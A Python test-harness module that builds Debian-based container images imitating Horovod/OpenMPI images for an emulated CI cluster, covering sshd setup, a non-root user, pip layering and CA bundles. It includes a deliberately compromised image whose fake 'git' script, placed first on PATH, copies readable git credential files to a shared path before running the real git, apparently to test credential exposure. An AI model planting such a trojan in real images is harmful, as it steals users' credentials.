"""Images built here from Debian packages for the real nodes, no registry and no container
daemon: the lowest layer is ``debootstrap --variant=minbase`` with the image's packages, made
and cached the way ``make image-check`` makes its base (:func:`testing.image_check.base_archive`:
one tarball per suite, mirror and package list); the layers above are written here.

- :data:`MPI_IMAGE`: Debian's Python, OpenMPI, OpenSSH (client and server) and git, with what
  ``horovod/horovod:0.28.1``'s Dockerfile adds for sshd (``/var/run/sshd``, that is ``/run/sshd``,
  ``StrictHostKeyChecking no``) and its ``WORKDIR /horovod/examples``: what the Horovod image
  is made of below its Python packages; and uv (this virtualenv's, the dev dependency) on its
  PATH, as ci-runner's image has it (Dockerfile): the tests' setup image;
- :data:`NON_ROOT_IMAGE`: the same with a numeric ``USER`` (a kubelet refuses ``runAsNonRoot``
  with a named one) whose account has a password field that is not locked (``*``: Debian's sshd
  refuses a locked ``!`` account even for key logins);
- :data:`HOROVOD_IMAGE`, under the stock name: :data:`MPI_IMAGE` with torch, Horovod (the wheel
  ``make horovod`` built against this OpenMPI) and pip in the system Python's site directory
  (:mod:`.sitelayer`), and the stock image's PATH;
- :data:`HOROVOD_NON_ROOT_IMAGE`: that with the non-root user;
- :data:`STOCK_PYTHON_IMAGE`: :data:`HOROVOD_IMAGE` with the stock image's Python where it differs
  (``python`` only, no ``ensurepip``, pip 21.0.1: :func:`_stock_python_tree`).

Every image trusts what this machine trusts (:func:`_ca_tree`): a pod reaches a package index
through the same TLS-intercepting proxy as this machine, if it has one. All of them are one
archive (:func:`source`), imported once into the nodes' seed (:mod:`.seedroot`), which is what is
cached."""

from __future__ import annotations

import contextlib
import hashlib
import json
import os
import re
import shutil
import sys
import tempfile
import zipfile
from dataclasses import dataclass
from pathlib import Path

from testing import image_check
from testing.emulated_cluster import imagestore, sitelayer, stockpip
from testing.emulated_cluster.imagestore import ImageConfig, Named, Source

SUITE = "bookworm"
PACKAGES = (
    "python3",
    "python3-venv",
    "openmpi-bin",
    "openssh-server",
    "openssh-client",
    "git",
    "ca-certificates",
    "procps",
)
MPI_IMAGE = "ci-runner.invalid/debian-mpi:bookworm"
NON_ROOT_IMAGE = "ci-runner.invalid/debian-mpi-non-root:bookworm"
HOROVOD_IMAGE = "horovod/horovod:0.28.1"  # the stock name train.yaml files write
HOROVOD_NON_ROOT_IMAGE = "ci-runner.invalid/horovod-non-root:0.28.1"
STOCK_PYTHON_IMAGE = "ci-runner.test/horovod-stock-python:0.28.1"
# The Horovod image as a compromised one would be: a git first on PATH that copies whatever of the
# git credential it can read to where every rank reads, then runs git.
TROJAN_GIT_IMAGE = "ci-runner.test/horovod-trojan-git:0.28.1"
STOLEN = "/ci-runner/stolen"
TROJAN_GIT = f"""#!/bin/sh
for file in /ci-runner-git/username /ci-runner-git/password; do
    if [ -r "$file" ]; then cat "$file" >>{STOLEN}; fi
done
printf 'trojan git ran: %s\\n' "$*" >>{STOLEN}.log
exec /usr/bin/git "$@"
"""
NON_ROOT_UID = 1000
WORKDIR = "/horovod/examples"
ENV = {
    "PATH": "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
    "DEBIAN_FRONTEND": "noninteractive",
}
# The stock image's PATH: its CUDA base image's.
HOROVOD_ENV = {**ENV, "PATH": "/usr/local/nvidia/bin:/usr/local/cuda/bin:" + ENV["PATH"]}
# docker/horovod/Dockerfile at v0.28.1, lines 79-82: sshd's privilege separation directory and
# no host key prompts between workers.
SSH_CONFIG = "Host *\n    StrictHostKeyChecking no\n"
# The one file Debian's OpenSSL (/usr/lib/ssl/cert.pem links to it), Python's ssl, pip >= 24.2
# (truststore: the system's store) and git (libcurl-gnutls) read the trusted CAs from.
CA_BUNDLE = image_check.SYSTEM_BUNDLE.relative_to("/")
PEM = re.compile(r"-----BEGIN CERTIFICATE-----(.*?)-----END CERTIFICATE-----", re.DOTALL)


def base_layer(cache: Path) -> Path:
    """The debootstrap tarball (``make image-check``'s cache directory), made once."""
    image = image_check.Image(SUITE, list(PACKAGES))
    try:
        # What image-check says goes to stderr: `python -m testing.emulated_cluster` speaks on
        # stdout, line by line, to the program that started it.
        with contextlib.redirect_stdout(sys.stderr):
            mirror = image_check.apt_mirror(SUITE)
            return image_check.base_archive(image, mirror, cache / "image-check")
    except image_check.CheckFailed as err:
        raise imagestore.ImageFailed(str(err)) from None


def _sshd_tree(root: Path) -> None:
    # The Dockerfile's `mkdir -p /var/run/sshd` follows Debian's /var/run -> /run link; a
    # var/run directory in this layer would hide that link.
    (root / "run" / "sshd").mkdir(parents=True, mode=0o755)
    config = root / "etc" / "ssh" / "ssh_config.d"
    config.mkdir(parents=True)
    (config / "ci-runner.conf").write_text(SSH_CONFIG)
    (root / WORKDIR.lstrip("/")).mkdir(parents=True)


def _account_tree(root: Path, base: Path) -> None:
    """/etc/passwd, /etc/group and /etc/shadow of ``base`` with the user ``mpiuser``."""
    etc = root / "etc"
    etc.mkdir(parents=True)
    uid = NON_ROOT_UID
    for name, line in (
        ("passwd", f"mpiuser:x:{uid}:{uid}::/home/mpiuser:/bin/sh\n"),
        ("group", f"mpiuser:x:{uid}:\n"),
        ("shadow", "mpiuser:*:19000:0:99999:7:::\n"),
    ):
        (etc / name).write_text((base / "etc" / name).read_text() + line)
    (etc / "shadow").chmod(0o640)
    home = root / "home" / "mpiuser"
    (home / ".ssh").mkdir(parents=True, mode=0o700)
    for path in (home, home / ".ssh"):
        os.chown(path, uid, uid)


def extra_certificates(image: str, host: str) -> list[str]:
    """The PEM certificates of the bundle ``host`` that the bundle ``image`` lacks, in
    ``host``'s order (compared by their base64, whatever the line breaks)."""
    known = {"".join(found[1].split()) for found in PEM.finditer(image)}
    extra: dict[str, str] = {}
    for found in PEM.finditer(host):
        body = "".join(found[1].split())
        if body not in known:
            extra.setdefault(body, found[0])
    return list(extra.values())


def _ca_tree(root: Path, image_bundle: Path) -> bool:
    """The image's bundle (``image_bundle``, Debian's) with the CAs this machine's pip trusts
    (:func:`testing.image_check.trusted_bundle`) appended, as a layer's tree at ``root``; False,
    and no tree, when this machine trusts no CA the image does not."""
    host = image_check.trusted_bundle()
    if host is None:
        return False
    image = image_bundle.read_text(encoding="utf-8")
    extra = extra_certificates(image, host.read_text(encoding="utf-8"))
    if not extra:
        return False
    bundle = root / CA_BUNDLE
    bundle.parent.mkdir(parents=True)
    bundle.write_text(image + "".join(f"{cert}\n" for cert in extra), encoding="utf-8")
    bundle.chmod(0o644)
    return True


# pip's console script as get-pip writes it, run by the system interpreter.
PIP_SCRIPT = (
    "#!{python}\nimport sys\nfrom pip._internal.cli.main import main\n\n"
    "if __name__ == '__main__':\n    sys.exit(main())\n"
)


def _stock_python_tree(root: Path, pip_wheel: Path, site_pip: list[str]) -> None:
    """The layer that makes the Horovod image's Python look like the stock image's (Ubuntu
    20.04's 3.8) where ci-runner's pod scripts could tell: ``python`` and no ``python3`` on PATH
    (the Dockerfile's ``ln -s /usr/bin/python3.8 /usr/bin/python``), no ``ensurepip`` (Ubuntu's
    is in ``python3-venv``, which the image lacks, so ``-m venv`` needs ``--without-pip``), pip
    21.0.1 (:mod:`.stockpip`) instead of the site layer's. The interpreter stays Debian's 3.11:
    no package registry has a Python 3.8 that installs on bookworm (Debian never shipped it; the
    npm and PyPI "portable Python" packages download their builds from elsewhere). OCI
    whiteouts hide what the layers below have: ``.wh.<name>`` a file or directory,
    ``.wh..wh..opq`` every lower entry of its directory. ``site_pip``: the site layer's pip
    entries in dist-packages (its package and dist-info)."""
    version = sitelayer.python_version()
    usr_bin = root / "usr" / "bin"
    usr_bin.mkdir(parents=True)
    (usr_bin / ".wh.python3").touch()
    (usr_bin / "python").symlink_to(version)
    stdlib = root / "usr" / "lib" / version
    stdlib.mkdir(parents=True)
    (stdlib / ".wh.ensurepip").touch()
    dist = root / "usr" / "local" / "lib" / version / "dist-packages"
    dist.mkdir(parents=True)
    with zipfile.ZipFile(pip_wheel) as wheel:
        wheel.extractall(dist)
        ours = {name.split("/")[0] for name in wheel.namelist()}
    for name in site_pip:
        # A directory this layer also has (the package) is made opaque, one it lacks (the
        # site layer's dist-info) whited out.
        if name in ours:
            (dist / name / ".wh..wh..opq").touch()
        else:
            (dist / f".wh.{name}").touch()
    local_bin = root / "usr" / "local" / "bin"
    local_bin.mkdir(parents=True)
    for name in ("pip", "pip3", f"pip{version.removeprefix('python')}"):
        (local_bin / name).write_text(PIP_SCRIPT.format(python=sitelayer.INTERPRETER))
        (local_bin / name).chmod(0o755)


@dataclass(frozen=True)
class Layers:
    """The layers written here (the base is the debootstrap tarball, the site layer
    :mod:`.sitelayer`'s)."""

    base: Path
    sshd: Path
    account: Path
    stock_python: Path
    trojan_git: Path
    uv: Path
    ca: Path | None  # this machine's extra CAs (:func:`_ca_tree`), None without any

    def written(self) -> list[Path]:
        """The layers written here: their digests are part of the images' key."""
        small = [self.sshd, self.account, self.stock_python, self.trojan_git, self.uv]
        return small + ([self.ca] if self.ca is not None else [])


def _site_pip(venv: Path) -> list[str]:
    """The site layer's pip entries in dist-packages: its package and its dist-info."""
    dist = sitelayer.installed(venv)["pip"]
    return sorted({f.parts[0] for f in dist.files or [] if f.parts[0] != ".."})


def _small_layers(cache: Path, scratch: Path, venv: Path) -> Layers:
    """Every layer but the site layer, written into ``scratch``."""
    base = base_layer(cache)
    sshd = scratch / "sshd"
    _sshd_tree(sshd)
    etc = scratch / "base-etc"
    etc.mkdir()
    imagestore.extract(base, etc, ["./etc/passwd", "./etc/group", "./etc/shadow", f"./{CA_BUNDLE}"])
    account = scratch / "account"
    _account_tree(account, etc)
    ca = scratch / "ca"
    has_ca = _ca_tree(ca, etc / CA_BUNDLE)
    stock = scratch / "stock-python"
    _stock_python_tree(stock, stockpip.stock_pip_wheel(cache), _site_pip(venv))
    trojan = scratch / "trojan-git"
    (trojan / "usr" / "local" / "bin").mkdir(parents=True)
    (trojan / "usr" / "local" / "bin" / "git").write_text(TROJAN_GIT)
    (trojan / "usr" / "local" / "bin" / "git").chmod(0o755)
    uv = scratch / "uv"
    (uv / "usr" / "local" / "bin").mkdir(parents=True)
    shutil.copy(_uv(venv), uv / "usr" / "local" / "bin" / "uv")
    return Layers(
        base,
        imagestore.layer_from_dir(sshd, scratch / "sshd.tar"),
        imagestore.layer_from_dir(account, scratch / "account.tar"),
        imagestore.layer_from_dir(stock, scratch / "stock-python.tar"),
        imagestore.layer_from_dir(trojan, scratch / "trojan-git.tar"),
        imagestore.layer_from_dir(uv, scratch / "uv.tar"),
        imagestore.layer_from_dir(ca, scratch / "ca.tar") if has_ca else None,
    )


def _uv(venv: Path) -> Path:
    """This virtualenv's uv (the dev dependency), which the setup image carries."""
    found = shutil.which("uv", path=str(venv / "bin"))
    if found is None:
        raise imagestore.ImageFailed(f"no uv in {venv}; fix: pip install -e '.[dev]' (make venv)")
    return Path(found)


def _images(layers: Layers, site: Path) -> list[Named]:
    home = {"HOME": "/home/mpiuser"}
    user = str(NON_ROOT_UID)
    sshd, account = layers.sshd, layers.account
    base = [layers.base, *([layers.ca] if layers.ca is not None else [])]

    def config(env: dict[str, str], user: str = "") -> ImageConfig:
        return ImageConfig(cmd=["/bin/bash"], env=env, workdir=WORKDIR, user=user)

    return [
        Named(MPI_IMAGE, [*base, sshd, layers.uv], config(ENV)),
        Named(NON_ROOT_IMAGE, [*base, sshd, account], config({**ENV, **home}, user)),
        Named(HOROVOD_IMAGE, [*base, sshd, site], config(HOROVOD_ENV)),
        Named(
            HOROVOD_NON_ROOT_IMAGE,
            [*base, sshd, site, account],
            config({**HOROVOD_ENV, **home}, user),
        ),
        Named(STOCK_PYTHON_IMAGE, [*base, sshd, site, layers.stock_python], config(HOROVOD_ENV)),
        Named(TROJAN_GIT_IMAGE, [*base, sshd, site, layers.trojan_git], config(HOROVOD_ENV)),
    ]


def source(cache: Path, venv: Path) -> Source:
    """The archive of the images, keyed by the base tarball's name (its packages), the digests
    of the layers written here (this machine's CA bundle among them), the site layer's key (the
    virtualenv's distributions) and the images' configs; written only when a node seed needs
    it."""
    with tempfile.TemporaryDirectory() as tmp:
        layers = _small_layers(cache, Path(tmp), venv)
        inputs = [layers.base.name, imagestore.FORMAT, sitelayer.key(venv)]
        inputs += [imagestore.digest(p) for p in layers.written()]
        for named in _images(layers, layers.base):
            inputs += [named.name, json.dumps(named.config.as_json([]), sort_keys=True)]
    key = "images-" + hashlib.sha256("\n".join(inputs).encode()).hexdigest()[:16]

    def archive(scratch: Path) -> Path:
        layers = _small_layers(cache, scratch, venv)
        site = sitelayer.write(venv, scratch / "site")
        layer = imagestore.layer_from_dir(site, scratch / "site.tar", keep_times=True)
        shutil.rmtree(site)
        return imagestore.write_layout(scratch / key, _images(layers, layer))

    return Source(key, archive)
